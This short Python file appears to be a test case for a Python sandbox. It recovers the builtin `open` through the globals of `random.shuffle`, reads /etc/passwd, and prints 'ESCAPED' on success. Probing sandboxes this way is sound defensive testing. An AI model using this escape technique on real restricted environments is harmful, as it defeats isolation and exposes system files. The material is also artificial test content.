# tries: the function behind a method, read in a library's frame
# class: lazy
# stops: 1 2 3 4
def use(opener):
    print("REACHED")
    if "root:" in opener("/etc/passwd").read():
        print("ESCAPED")


def dig(space):
    print("REACHED")
    builtins = space["__builtins__"]
    return builtins["open"] if type(builtins) is dict else getattr(builtins, "open")


import collections
import random

seen = collections.UserList(map(type(random.shuffle).__func__.__get__,
                                [random.shuffle]))
use(dig(seen[0].__globals__))
